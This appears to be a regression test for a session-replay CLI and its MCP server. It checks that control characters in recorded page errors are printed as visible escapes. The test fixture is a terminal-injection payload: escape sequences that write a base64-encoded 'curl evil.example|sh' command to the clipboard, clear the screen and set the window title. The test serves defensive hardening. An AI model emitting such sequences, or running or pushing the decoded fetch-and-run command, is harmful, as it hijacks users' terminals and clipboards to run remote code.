/**
 * Issue 28, item 7: `rerun analyze` printed recorded text — a real page's thrown error — with its raw escape
 * sequences: OSC 52 (write the clipboard), `ESC[2J` (clear the screen), a title change. The CLI's output and
 * every MCP tool answer now carry them as visible `\uXXXX` escapes.
 */
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { InMemoryTransport } from "@modelcontextprotocol/sdk/inMemory.js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { IngestBatchInput } from "../../shared/batch.ts";
import { createTestDeps, TEST_KEYS } from "../../collector/_test-deps.ts";
import { createMcpServer } from "../../collector/mcp/server.ts";
import { createCaller } from "../../collector/router.ts";
import { createContextInner } from "../../collector/trpc/context.ts";
import { postBatch, type RunningCollector, startCollector } from "../helpers/collector.ts";
import { runCli } from "../helpers/run-cli.ts";

const ESC = "\u001b";
const HOSTILE = `Boom ${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007${ESC}[2J${ESC}]0;pwned\u0007 \u009b31m`;
/** Any control character a terminal could act on (newline and tab are layout). */
// deno-lint-ignore no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

function hostileBatch(start: number): IngestBatchInput {
  return {
    appId: "app_control_chars",
    sessionId: "session_control_chars",
    windowId: "window_control_chars",
    sequence: 0,
    events: [
      { type: 4, data: { href: "https://shop.example/", width: 800, height: 600 }, timestamp: start },
      {
        type: 5,
        data: {
          tag: "rerun.error",
          payload: { message: HOSTILE, kind: "error", url: "https://shop.example/" },
        },
        timestamp: start + 1_000,
      },
    ],
    meta: { url: "https://shop.example/" },
  };
}

describe("issue 28: control characters in recorded text", () => {
  let collector: RunningCollector;
  let target: string[];
  beforeAll(async () => {
    collector = await startCollector();
    target = ["--url", collector.url, "--read-key", collector.readKey];
    expect((await postBatch(collector, hostileBatch(Date.now() - 10_000))).status).toBe(200);
  });
  afterAll(async () => {
    await collector?.stop();
  });

  it.each([["analyze", "--latest"], ["analyze", "--latest", "--json"]])(
    "rerun %s prints the error with visible escapes and no raw control character",
    async (...args) => {
      const result = await runCli([...args, ...target]);
      expect(result.code).toBe(0);
      expect(result.stdout + result.stderr).not.toMatch(RAW_CONTROL);
      expect(result.stdout).toContain("\\u001b]52;c;");
    },
  );

  it("answers MCP tools with visible escapes", async () => {
    await using deps = await createTestDeps();
    await createCaller(createContextInner(deps, { key: TEST_KEYS.publicKey })).ingest.batch(
      hostileBatch(deps.now()),
    );
    const server = createMcpServer(deps);
    const [clientSide, serverSide] = InMemoryTransport.createLinkedPair();
    await server.connect(serverSide);
    const client = new Client({ name: "control-chars", version: "0" });
    await client.connect(clientSide);
    for (const name of ["analyze_replay", "get_replay_narrative"]) {
      const result = await client.callTool({ name, arguments: { sessionId: "session_control_chars" } });
      const text = JSON.stringify(result.content) + JSON.stringify(result.structuredContent ?? {});
      expect(JSON.parse(JSON.stringify(result))).toBeTruthy();
      expect(
        [...(result.content as Array<{ text: string }>)].map((c) => c.text).join("\n"),
        name,
      ).not.toMatch(RAW_CONTROL);
      expect(text, name).toContain("\\\\u001b]52");
    }
  });
});
